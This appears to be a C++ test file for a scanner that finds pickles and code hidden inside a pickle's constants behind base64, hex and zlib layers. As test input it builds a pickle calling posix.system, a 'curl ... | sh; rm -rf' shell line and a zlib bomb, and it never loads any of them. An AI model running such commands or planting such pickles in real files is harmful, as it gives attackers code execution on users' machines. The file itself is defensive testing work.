// Payloads inside payloads: pickles and code hidden in the constants a pickle
// pushes, raw or encoded (base64, hex, zlib, gzip) in several stages. Every
// payload is built here as bytes; nothing is unpickled.
#include "read/pickle_embedded.h"

#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <zlib.h>

#include "owl/pickle.h"
#include "read/pickle_decode.h"
#include "read/pickle_test_streams.h"

namespace owl {
namespace {

using namespace pickle_test;

std::string base64(const std::string& bytes) {
  std::string out(4 * ((bytes.size() + 2) / 3) + 1, '\0');
  const int written = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                                      reinterpret_cast<const unsigned char*>(bytes.data()),
                                      static_cast<int>(bytes.size()));
  out.resize(static_cast<size_t>(written));
  return out;
}

std::string hex(const std::string& bytes) {
  static const char* kDigits = "0123456789abcdef";
  std::string out;
  for (const char c : bytes) {
    out.push_back(kDigits[static_cast<uint8_t>(c) >> 4]);
    out.push_back(kDigits[static_cast<uint8_t>(c) & 0x0F]);
  }
  return out;
}

// A protocol-4 pickle of {"key": <value>}, which nothing loads.
std::string dict_holding(const std::string& value_opcodes) {
  return "\x80\x04}\x94"s + short_unicode("key") + "\x94" + value_opcodes + "s.";
}

std::string findings_of(const PickleScan& result) {
  std::string all;
  for (const auto& finding : result.findings) all += finding + "\n";
  return all;
}

const PickleImport* find_import(const PickleScan& result, const std::string& global) {
  for (const auto& import : result.imports) {
    if (import.module + "." + import.name == global) return &import;
  }
  return nullptr;
}

const std::string kPosixSystem = call_pickle("posix", "system", "id");

TEST(EmbeddedPayload, Base64OfZlibOfAPickleIsDangerousWithItsChain) {
  const std::string stream = dict_holding(binunicode(base64(zlib_compress(kPosixSystem))));
  const PickleScan result = scan(stream);
  EXPECT_EQ(result.safety, Safety::kDangerous) << findings_of(result);
  ASSERT_FALSE(result.findings.empty());
  EXPECT_NE(result.findings[0].find("dangerous: the BINUNICODE constant at byte 10 decodes "
                                    "through base64 > zlib to an embedded pickle that imports "
                                    "posix.system (dangerous)"),
            std::string::npos)
      << result.findings[0];
  const PickleImport* system = find_import(result, "posix.system");
  ASSERT_NE(system, nullptr);
  EXPECT_EQ(system->nested_in, "the BINUNICODE constant at byte 10 > base64 > zlib");
  EXPECT_EQ(system->safety, Safety::kDangerous);
}

TEST(EmbeddedPayload, HexOfBase64OfAPickleIsFollowedTwoStagesDeep) {
  const std::string stream = dict_holding(binunicode(hex(base64(kPosixSystem))));
  const PickleScan result = scan(stream);
  EXPECT_EQ(result.safety, Safety::kDangerous);
  EXPECT_NE(findings_of(result).find("decodes through hex > base64 to an embedded pickle"),
            std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, RawPickleInABytesConstantIsDangerous) {
  const PickleScan result = scan(dict_holding(binbytes(kPosixSystem)));
  EXPECT_EQ(result.safety, Safety::kDangerous);
  EXPECT_NE(findings_of(result).find("the BINBYTES constant at byte 10 is an embedded pickle"),
            std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, ZlibInABytearrayIsInflated) {
  const std::string payload = zlib_compress(kPosixSystem);
  const std::string bytearray = "\x96"s + little_endian(payload.size(), 8) + payload;
  const PickleScan result = scan(dict_holding(bytearray));
  EXPECT_EQ(result.safety, Safety::kDangerous);
  EXPECT_NE(findings_of(result).find("decodes through zlib to an embedded pickle"),
            std::string::npos);
}

TEST(EmbeddedPayload, PickleWithOnlySafeImportsThatNothingLoadsIsSuspicious) {
  const std::string inner = "\x80\x02\x63\x63ollections\nOrderedDict\n)R.";
  const PickleScan result = scan(dict_holding(binunicode(base64(inner))));
  EXPECT_EQ(result.safety, Safety::kSuspicious);
  EXPECT_NE(findings_of(result).find("imports only allowlisted globals; nothing in this stream "
                                     "loads it, so it is at least suspicious"),
            std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, Base64ShellCommandIsSuspiciousCode) {
  const std::string command = "curl http://example.invalid/x | sh; rm -rf /tmp/y";
  const PickleScan result = scan(dict_holding(binunicode(base64(command))));
  EXPECT_EQ(result.safety, Safety::kSuspicious);
  EXPECT_NE(findings_of(result).find("decodes through base64 to text that looks like shell or "
                                     "Python code (\"curl \": downloads with curl)"),
            std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, HexOfZlibOfPythonIsSuspiciousCode) {
  const std::string code = "import os\nos.system('id')\n";
  const PickleScan result = scan(dict_holding(binunicode(hex(zlib_compress(code)))));
  EXPECT_EQ(result.safety, Safety::kSuspicious);
  EXPECT_NE(findings_of(result).find("hex > zlib to text that looks like shell or Python code"),
            std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, PlainCodeStringIsNotFlaggedOnItsOwn) {
  // Only decoded blobs are searched for code: a plain string is data.
  const PickleScan result = scan(dict_holding(binunicode("import os; os.system('id')")));
  EXPECT_EQ(result.safety, Safety::kSafe) << findings_of(result);
}

TEST(EmbeddedPayload, StateDictWithBase64LookingNamesRaisesNoAlarm) {
  // An OrderedDict of tensor names that are valid base64 and hex, and a
  // sha256, each mapped to None: they decode to noise, not to a payload.
  std::string items;
  for (const std::string name :
       {"QWxhZGRpbjpvcGVuIHNlc2FtZQ0KTWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcms",
        "encoderLayer0AttentionQueryWeight1234", "decoder_layers_11_fc2_weight_abcdefgh",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "TWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcmsuTWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcmsu"}) {
    items += binunicode(name) + "N";
  }
  const std::string stream = "\x80\x02\x63\x63ollections\nOrderedDict\n)R(" + items + "u.";
  const PickleScan result = scan(stream);
  EXPECT_TRUE(result.complete);
  EXPECT_EQ(result.safety, Safety::kSafe) << findings_of(result);
  EXPECT_TRUE(result.findings.empty()) << findings_of(result);
}

TEST(EmbeddedPayload, LoaderArgumentIsFollowedOnceNotReportedAgain) {
  const std::string outer = "\x80\x03\x63pickle\nloads\n"s + binbytes(kPosixSystem) + "\x85R.";
  const PickleScan result = scan(outer);
  EXPECT_EQ(result.safety, Safety::kDangerous);
  EXPECT_EQ(findings_of(result).find("embedded pickle"), std::string::npos) << findings_of(result);
}

TEST(EmbeddedPayload, NestingIsCappedWhenEveryLayerEmbedsTheNext) {
  std::string payload = kPosixSystem;
  for (int i = 0; i < 6; ++i) payload = dict_holding(binunicode(base64(payload)));
  const PickleScan result = scan(payload);
  EXPECT_GE(result.safety, Safety::kSuspicious);
  EXPECT_NE(findings_of(result).find("nested more than 3 levels deep"), std::string::npos)
      << findings_of(result);
}

TEST(EmbeddedPayload, ZlibBombIsCutAtTheBudget) {
  // 64 MiB of zeros compress to ~64 KiB; the decoder stops at its budget.
  const std::string zeros(size_t{64} << 20, '\0');
  const std::string bomb = zlib_compress(zeros);
  const PickleScan result = scan(dict_holding(binbytes(bomb)));
  EXPECT_NE(findings_of(result).find("past owl's cap on decoded bytes"), std::string::npos)
      << findings_of(result);
  EXPECT_EQ(result.safety, Safety::kSuspicious);
}

TEST(PickleDecode, Base64AndHexRoundTripAndRefuseJunk) {
  EXPECT_EQ(pickle::decode_base64("aGVsbG8gd29ybGQ=").value(), "hello world");
  EXPECT_EQ(pickle::decode_base64("aGVsbG8gd29ybGQ").value(), "hello world");  // unpadded
  EXPECT_EQ(pickle::decode_base64("aGVs\nbG8g d29y bGQ=").value(), "hello world");
  EXPECT_EQ(pickle::decode_base64("_-8").value(), "\xff\xef"s);  // URL-safe alphabet
  EXPECT_FALSE(pickle::decode_base64("a").has_value());
  EXPECT_EQ(pickle::decode_hex("6869").value(), "hi");
  EXPECT_FALSE(pickle::decode_hex("686").has_value());
  EXPECT_FALSE(pickle::decode_hex("zz").has_value());
  EXPECT_TRUE(pickle::looks_like_base64("aGVsbG8gd29ybGQ=", 8));
  EXPECT_FALSE(pickle::looks_like_base64("aGVs=bG8", 4));  // padding mid-text
  EXPECT_FALSE(pickle::looks_like_base64("model.layers.0.weight", 4));
}

TEST(PickleDecode, InflateStopsAtItsCap) {
  const std::string data(100000, 'x');
  const auto whole = pickle::inflate_capped(zlib_compress(data), 1 << 20);
  ASSERT_TRUE(whole.has_value());
  EXPECT_TRUE(whole->complete);
  EXPECT_EQ(whole->data, data);
  const auto cut = pickle::inflate_capped(zlib_compress(data), 1000);
  ASSERT_TRUE(cut.has_value());
  EXPECT_FALSE(cut->complete);
  EXPECT_EQ(cut->data.size(), 1000u);
  EXPECT_FALSE(pickle::inflate_capped("\x78\x9c\xff\xff\xff"s, 1000).has_value());
}

}  // namespace
}  // namespace owl
